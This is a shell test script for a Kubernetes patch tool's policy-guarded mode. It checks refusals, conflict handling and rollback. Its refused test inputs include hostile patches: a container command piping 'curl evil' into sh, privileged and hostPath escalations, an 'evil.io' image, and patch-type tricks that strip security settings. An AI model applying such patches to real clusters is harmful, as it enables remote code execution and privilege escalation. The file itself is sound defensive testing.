#!/bin/sh
# k8spatch's guarded mode (--policy): the policy judges the server's
# dry-run answer against the live object, never the patch text, so hostile
# patches that reach denied fields indirectly are refused; nothing is
# written when refused (the fixture's recorded requests show no real
# PATCH); a change made meanwhile by someone else is never overwritten
# (409); a patch that breaks the rollout is rolled back to the exact
# previous template.
. "${OPSPIPE_TOP:-.}/test/lib.sh"
. "$OPSPIPE_TOP/test/kube.sh"

cat >"$T_DIR/objects.yaml" <<'EOF'
apiVersion: v1
kind: Namespace
metadata: {name: web}
---
apiVersion: v1
kind: Namespace
metadata: {name: kube-system}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: nginx, namespace: web}
spec:
  replicas: 2
  selector: {matchLabels: {app: nginx}}
  template:
    metadata: {labels: {app: nginx}}
    spec:
      serviceAccountName: web-sa
      securityContext: {runAsNonRoot: true}
      containers:
      - name: nginx
        image: nginx:1.25
        resources: {limits: {memory: 128Mi, cpu: 500m}}
        securityContext: {allowPrivilegeEscalation: false}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: dns, namespace: kube-system}
spec:
  replicas: 1
  selector: {matchLabels: {app: dns}}
  template:
    metadata: {labels: {app: dns}}
    spec:
      containers:
      - {name: dns, image: "nginx:1.25"}
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: agent, namespace: web}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      containers:
      - {name: agent, image: "busybox:1.36"}
EOF
cat >"$T_DIR/policy.yaml" <<'EOF'
kinds: [Deployment, StatefulSet]
namespaces: [web, shop]
deny_namespaces: [kube-system]
allow:
  - spec.replicas
  - spec.template.metadata.labels
  - spec.template.spec.containers[*].resources
  - spec.template.spec.containers[*].image
  - spec.template.spec.containers[*].readinessProbe
deny:
  - "**.securityContext"
  - spec.template.spec.hostNetwork
limits:
  replicas: {max: 20}
  memory: {max: 4Gi, max_factor: 4}
  cpu: {max: "4", max_factor: 4}
images:
  registries: [docker.io/library]
EOF
policy=$T_DIR/policy.yaml

start_kubeapi --objects "$T_DIR/objects.yaml"
k8spatch wait deploy nginx --timeout 20s >/dev/null

# The real (not dry-run) PATCH requests since the last clear.
writes() {
	sent '[.[] | select(.method == "PATCH" and (.query.dryRun // "") != "All")] | length'
}
clear() { control '{"clear_requests":true}'; }
template() { k8spatch get deploy nginx | jq -c .spec.template; }
C='{"spec":{"template":{"spec":{"containers":[{"name":"nginx",'

# guarded NAME PATCH [ARGS...]: runs a guarded patch of deploy/nginx,
# leaving the record in $T_DIR/out.
guarded() {
	name=$1
	patch=$2
	shift 2
	clear
	expect_status "$name" 1 k8spatch --policy "$policy" patch deploy nginx -p "$patch" --fail-after 2s "$@"
}

# refused NAME PATTERN PATCH [ARGS...]: the patch is refused for PATTERN,
# and nothing is written.
refused() {
	name=$1
	pattern=$2
	patch=$3
	shift 3
	before=$(template)
	guarded "refused: $name" "$patch" "$@"
	expect_eq "… result refused" refused "$(jq -r .result "$T_DIR/out")"
	expect_match "… the reason names it" "$pattern" "$(jq -r .error "$T_DIR/out")"
	expect_eq "… nothing was written" 0 "$(writes)"
	expect_eq "… the template is as it was" "$before" "$(template)"
}

# --- an allowed change ------------------------------------------------------
clear
rv=$(k8spatch get deploy nginx | jq -r .metadata.resourceVersion)
expect_status "an allowed change is applied" 0 k8spatch --policy "$policy" patch deploy nginx \
    -p "$C\"resources\":{\"limits\":{\"memory\":\"256Mi\"},\"requests\":{\"memory\":\"256Mi\"}}}]}}}}" --fail-after 2s
expect_eq "… result applied" applied "$(jq -r .result "$T_DIR/out")"
expect_eq "… changed names the container by its merge key" \
    '["spec.template.spec.containers[nginx].resources.limits.memory","spec.template.spec.containers[nginx].resources.requests.memory"]' \
    "$(jq -c .changed "$T_DIR/out")"
expect_eq "… every step recorded, in order, all ok" "target get dry-run policy patch wait true" \
    "$(jq -r '[.steps[].step] + [all(.steps[]; .ok)] | map(tostring) | join(" ")' "$T_DIR/out")"
expect_eq "… generation and revision reported" "2 2" "$(jq -r '"\(.generation) \(.revision)"' "$T_DIR/out")"
expect_eq "… the dry run came first, then the write" "All -" \
    "$(sent '[.[] | select(.method=="PATCH") | (.query.dryRun // "-")] | join(" ")')"
expect_eq "… both carried the live resourceVersion" "$rv $rv" \
    "$(sent '[.[] | select(.method=="PATCH") | .body.metadata.resourceVersion] | join(" ")')"
expect_eq "… the memory is changed" 256Mi "$(k8spatch get deploy nginx | jq -r '.spec.template.spec.containers[0].resources.limits.memory')"

clear
expect_status "the same patch again is unchanged" 0 k8spatch --policy "$policy" patch deploy nginx \
    -p "$C\"resources\":{\"limits\":{\"memory\":\"256Mi\"}}}]}}}}"
expect_eq "… result unchanged, nothing written" "unchanged 0" "$(jq -r .result "$T_DIR/out") $(writes)"

clear
expect_status "--dry-run stops after the policy" 0 k8spatch --policy "$policy" --dry-run patch deploy nginx \
    -p "$C\"resources\":{\"limits\":{\"cpu\":\"1\"}}}]}}}}"
expect_eq "… result dry-run, what would change, nothing written" \
    'dry-run ["spec.template.spec.containers[nginx].resources.limits.cpu"] 0' \
    "$(jq -r '"\(.result) \(.changed | tojson)"' "$T_DIR/out") $(writes)"
expect_eq "… steps end with the policy" "target get dry-run policy" \
    "$(jq -r '[.steps[].step] | join(" ")' "$T_DIR/out")"

# --- refused: plain and hostile ---------------------------------------------
refused "a denied field" "'spec.template.spec.hostNetwork' is denied" \
    '{"spec":{"template":{"spec":{"hostNetwork":true}}}}'
refused "a container securityContext" "securityContext.privileged' is denied by the policy \('\*\*.securityContext'\)" \
    "$C\"securityContext\":{\"privileged\":true}}]}}}}"
refused "serviceAccountName" "'spec.template.spec.serviceAccountName' is not under any path the policy allows" \
    '{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}'
refused "a command" "containers\[nginx\].command' is not under any path" \
    "$C\"command\":[\"sh\",\"-c\",\"curl evil | sh\"]}]}}}}"
refused "a hostPath volume" "volumes\[host\]" \
    '{"spec":{"template":{"spec":{"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}}}'
refused "a sidecar added beside an allowed image change" "containers\[sidecar\]" \
    '{"spec":{"template":{"spec":{"containers":[{"name":"nginx","image":"nginx:1.25"},{"name":"sidecar","image":"nginx:1.25","command":["sh"]}]}}}}'
# shellcheck disable=SC2016 # "$patch" is a strategic-merge directive
refused "strategic \$patch: replace on the pod spec (drops serviceAccountName, securityContext)" \
    "spec.template.spec.(serviceAccountName|securityContext)" \
    '{"spec":{"template":{"spec":{"$patch":"replace","containers":[{"name":"nginx","image":"nginx:1.25"}]}}}}'
# shellcheck disable=SC2016 # "$patch" is a strategic-merge directive
refused "strategic \$patch: replace on the container list (drops the limits)" \
    "(removes the (memory|cpu) limit|securityContext)" \
    '{"spec":{"template":{"spec":{"containers":[{"name":"nginx","image":"nginx:1.25"},{"$patch":"replace"}]}}}}'
refused "a merge patch replacing the container list" \
    "(removes the (memory|cpu) limit|securityContext)" \
    '{"spec":{"template":{"spec":{"containers":[{"name":"nginx","image":"nginx:1.25"}]}}}}' --type merge
refused "a merge patch nulling securityContext" "securityContext.runAsNonRoot' is denied" \
    '{"spec":{"template":{"spec":{"securityContext":null}}}}' --type merge
refused "a merge patch nulling serviceAccountName" "serviceAccountName' is not under" \
    '{"spec":{"template":{"spec":{"serviceAccountName":null}}}}' --type merge
refused "a JSON patch move out of a denied field into an allowed one" "securityContext.runAsNonRoot' is denied" \
    '[{"op":"move","from":"/spec/template/spec/securityContext/runAsNonRoot","path":"/spec/template/metadata/labels/x"}]' --type json
refused "a JSON patch copy into a field not allowed" "serviceAccountName' is not under" \
    '[{"op":"copy","from":"/metadata/name","path":"/spec/template/spec/serviceAccountName"}]' --type json
refused "a JSON patch remove" "securityContext.allowPrivilegeEscalation' is denied" \
    '[{"op":"remove","path":"/spec/template/spec/containers/0/securityContext"}]' --type json
refused "an image from another registry" "image 'evil.io/nginx:1.25' is not from an allowed registry" \
    "$C\"image\":\"evil.io/nginx:1.25\"}]}}}}"
refused "an image of another Docker Hub user" "image 'someone/nginx:1' is not from an allowed registry" \
    "$C\"image\":\"someone/nginx:1\"}]}}}}"
refused "memory ×10, over max_factor 4" "is more than 4 times the current \"256Mi\"" \
    "$C\"resources\":{\"limits\":{\"memory\":\"2560Mi\"},\"requests\":{\"memory\":\"2560Mi\"}}}]}}}}"
refused "memory over max" "above the policy's memory max" \
    "$C\"resources\":{\"limits\":{\"memory\":\"1000Gi\"},\"requests\":{\"memory\":\"1000Gi\"}}}]}}}}"
refused "cpu over max_factor, under max" "is more than 4 times the current \"500m\"" \
    "$C\"resources\":{\"limits\":{\"cpu\":\"2100m\"},\"requests\":{\"cpu\":\"2100m\"}}}]}}}}"
refused "replicas over max" "'spec.replicas' 50 is above the policy's replicas max 20" \
    '{"spec":{"replicas":50}}' --type merge
clear
expect_status "refused: scale over max under --policy" 1 k8spatch --policy "$policy" scale deploy nginx --replicas 30
expect_eq "… result refused, nothing written" "refused 0" "$(jq -r .result "$T_DIR/out") $(writes)"
# scale --policy goes through /scale, as kubectl scale does: a Role that
# grants deployments/scale and not deployments is enough, and nothing but
# replicas can change through it.
clear
control '{"deny":[{"verb":"patch","resource":"deployments"}]}'
expect_status "scale under --policy through /scale alone" 0 k8spatch --policy "$policy" scale deploy nginx --replicas 3
expect_eq "… applied, spec.replicas judged" 'applied ["spec.replicas"]' "$(jq -c -r '"\(.result) \(.changed | tojson)"' "$T_DIR/out")"
expect_eq "… every request on /scale" '["/scale"]' \
    "$(sent '[.[] | select(.path | test("deployments/nginx")) | .path | sub(".*nginx"; "")] | unique | tojson')"
expect_eq "… a dry run, then the write carrying the resourceVersion read" "All - true" \
    "$(sent '[.[] | select(.method == "PATCH")] | "\(.[0].query.dryRun) \(.[1].query.dryRun // "-") \(.[1].body.metadata.resourceVersion == .[0].body.metadata.resourceVersion and .[1].body.metadata.resourceVersion != null)"')"
expect_eq "… 3 replicas" 3 "$(k8spatch get deploy nginx | jq .spec.replicas)"
expect_status "… while a guarded patch of the object is forbidden (exit 3)" 3 \
    k8spatch --policy "$policy" patch deploy nginx --type merge -p '{"spec":{"replicas":2}}'
control '{"deny":[]}'
k8spatch --policy "$policy" scale deploy nginx --replicas 2 >/dev/null
clear
expect_status "refused: a namespace the policy denies" 1 k8spatch --policy "$policy" -n kube-system patch deploy dns \
    --type merge -p '{"spec":{"replicas":2}}'
expect_eq "… at the first step, before anything is sent" "refused target 0" \
    "$(jq -r '"\(.result) \(.steps | map(.step) | join(","))"' "$T_DIR/out") $(sent '[.[] | select(.path | test("/_") | not)] | length')"
clear
expect_status "refused: a kind the policy does not list" 1 k8spatch --policy "$policy" patch ds agent \
    -p '{"spec":{"template":{"spec":{"containers":[{"name":"agent","image":"busybox:1.37"}]}}}}'
expect_match "… says so" "kind 'DaemonSet' is not in the policy's kinds" "$(jq -r .error "$T_DIR/out")"
expect_eq "… nothing written" 0 "$(writes)"

# A field the server drops (unknown) changes nothing, whatever the text says.
clear
expect_status "an unknown field smuggled into an allowed subtree changes nothing" 0 \
    k8spatch --policy "$policy" patch deploy nginx -p "$C\"resources\":{\"securityContext\":{\"privileged\":true}}}]}}}}"
expect_eq "… result unchanged, nothing written" "unchanged 0" "$(jq -r .result "$T_DIR/out") $(writes)"

# The patch's own resourceVersion cannot unpin the write.
clear
k8spatch --policy "$policy" patch deploy nginx --no-wait \
    -p '{"metadata":{"resourceVersion":"1"},"spec":{"replicas":3}}' >"$T_DIR/out"
expect_eq "a resourceVersion in the patch is replaced by the live one" \
    "$(sent '[.[] | select(.method=="GET" and (.path | test("deployments/nginx$")))][0] | "x"')" \
    "$(sent '[.[] | select(.method=="PATCH")][0] | if .body.metadata.resourceVersion != "1" then "x" else "y" end')"
k8spatch wait deploy nginx --timeout 20s >/dev/null

# --- someone else's change meanwhile: 409, nothing overwritten --------------
clear
control '{"before":[{"method":"PATCH","path":"deployments/nginx$","dry_run":false,"count":1,"merge":{"spec":{"template":{"spec":{"containers":[{"name":"nginx","image":"nginx:1.25","resources":{"limits":{"cpu":"750m","memory":"256Mi"},"requests":{"cpu":"750m","memory":"256Mi"}}}]}}}},"manager":"someone"}]}'
expect_status "a change made between the dry run and the write is a conflict (exit 1)" 1 \
    k8spatch --policy "$policy" patch deploy nginx -p "$C\"resources\":{\"limits\":{\"memory\":\"300Mi\"},\"requests\":{\"memory\":\"300Mi\"}}}]}}}}"
expect_eq "… result failed" failed "$(jq -r .result "$T_DIR/out")"
expect_match "… the error says someone else changed it" "conflict: .*changed by someone else.*nothing was written" "$(jq -r .error "$T_DIR/out")"
expect_eq "… the server answered our write with 409" 409 "$(sent '[.[] | select(.method=="PATCH" and (.query.dryRun // "") != "All")][0].status')"
expect_eq "… their change stands, ours is not there" "750m 256Mi" \
    "$(k8spatch get deploy nginx | jq -r '.spec.template.spec.containers[0].resources.limits | "\(.cpu) \(.memory)"')"
k8spatch wait deploy nginx --timeout 20s >/dev/null

# --- a patch that breaks the rollout: rolled back, template identical ------
before=$(template)
clear
guarded "a patch that OOMKills the pods is rolled back (exit 1)" \
    "$C\"resources\":{\"limits\":{\"memory\":\"32Mi\"},\"requests\":{\"memory\":\"32Mi\"}}}]}}}}"
expect_eq "… result rolled-back" rolled-back "$(jq -r .result "$T_DIR/out")"
expect_match "… the error tells why" "rollout failed: OOMKilled" "$(jq -r .error "$T_DIR/out")"
expect_eq "… steps: the wait failed, rollback and its wait succeeded" \
    "wait:false rollback:true wait-rollback:true" \
    "$(jq -r '[.steps[-3:][] | "\(.step):\(.ok)"] | join(" ")' "$T_DIR/out")"
expect_eq "… the template is byte-identical to before" "$before" "$(template)"
expect_eq "… the rollback was a JSON patch of /spec/template carrying the resourceVersion" \
    "application/json-patch+json /spec/template /metadata/resourceVersion" \
    "$(sent '[.[] | select(.method=="PATCH")][-1] | "\(.content_type) \(.body[0].path) \(.body[1].path)"')"
expect_status "… and the rollout is healthy again" 0 k8spatch wait deploy nginx --timeout 20s

before=$(template)
guarded "an image that cannot be pulled is rolled back" "$C\"image\":\"docker.io/library/nginx:0.0.0-nope\"}]}}}}"
expect_eq "… result rolled-back, ImagePullBackOff" "rolled-back ImagePullBackOff" \
    "$(jq -r '"\(.result) \(.error | capture("failed: (?<r>[A-Za-z]+)").r)"' "$T_DIR/out")"
expect_eq "… the template is byte-identical to before" "$before" "$(template)"

clear
expect_status "--no-wait applies without waiting" 0 k8spatch --policy "$policy" --no-wait patch deploy nginx \
    -p "$C\"resources\":{\"limits\":{\"cpu\":\"600m\"},\"requests\":{\"cpu\":\"600m\"}}}]}}}}"
expect_eq "… no wait step" "applied patch" "$(jq -r '"\(.result) \(.steps[-1].step)"' "$T_DIR/out")"
k8spatch wait deploy nginx --timeout 20s >/dev/null

# --- patch requests on stdin under a policy ---------------------------------
clear
printf '%s\n' \
    '{"kind":"Deployment","namespace":"web","name":"nginx","patch":{"spec":{"replicas":2}},"patch_type":"merge","incident":"i-1"}' \
    '{"kind":"Deployment","namespace":"web","name":"nginx","patch":{"spec":{"template":{"spec":{"hostNetwork":true}}}},"incident":"i-2"}' \
    >"$T_DIR/reqs"
k8spatch --policy "$policy" - <"$T_DIR/reqs" >"$T_DIR/res" 2>/dev/null
expect_eq "stdin under a policy: refused counts (exit 1)" 1 "$?"
expect_eq "… one result each, fields passed through" "i-1 applied i-2 refused" \
    "$(jq -r '"\(.incident) \(.result)"' "$T_DIR/res" | tr '\n' ' ' | sed 's/ $//')"
expect_eq "… only the allowed one was written" 1 "$(writes)"

# --- the other patch types under a policy -----------------------------------
clear
expect_status "an allowed JSON patch is applied" 0 k8spatch --policy "$policy" patch deploy nginx \
    --type json -p '[{"op":"replace","path":"/spec/replicas","value":2}]'
expect_eq "… its last operation pins the resourceVersion" "add /metadata/resourceVersion" \
    "$(sent '[.[] | select(.method=="PATCH")][-1].body[-1] | "\(.op) \(.path)"')"
clear
expect_status "server-side apply of a field another manager owns: a conflict (exit 1)" 1 \
    k8spatch --policy "$policy" --field-manager llm-fixer patch deploy nginx --type apply \
    -p "$C\"image\":\"nginx:1.25\",\"resources\":{\"limits\":{\"memory\":\"300Mi\"}}}]}}}}"
expect_match "… the server's words" "Apply failed with .* conflict" "$(jq -r .error "$T_DIR/out")"
expect_eq "… nothing written" 0 "$(writes)"
expect_status "… taken over with --force-conflicts" 0 \
    k8spatch --policy "$policy" --field-manager llm-fixer --force-conflicts patch deploy nginx --type apply \
    -p "$C\"image\":\"nginx:1.25\",\"resources\":{\"limits\":{\"memory\":\"300Mi\"},\"requests\":{\"memory\":\"300Mi\"}}}]}}}}"
expect_eq "… applied, force=true sent" "applied true" \
    "$(jq -r .result "$T_DIR/out") $(sent '[.[] | select(.method=="PATCH")][-1].query.force')"
k8spatch wait deploy nginx --timeout 20s >/dev/null

# --- the policy file itself -------------------------------------------------
printf 'kinds: [Deployment]\nnamespaces: [web]\nallow: [spec.replicas]\ndenny: [x]\n' >"$T_DIR/typo.yaml"
expect_status "a policy with an unknown key is refused (exit 2)" 2 k8spatch --policy "$T_DIR/typo.yaml" patch deploy nginx -p '{}'
expect_match "… naming the key" "unknown key 'denny'" "$(cat "$T_DIR/err")"
printf 'kinds: [Deployment]\nnamespaces: [web]\n' >"$T_DIR/noallow.yaml"
expect_status "a policy without allow is refused" 2 k8spatch --policy "$T_DIR/noallow.yaml" patch deploy nginx -p '{}'
expect_status "a missing policy file exits 2" 2 k8spatch --policy "$T_DIR/none.yaml" patch deploy nginx -p '{}'
done_testing
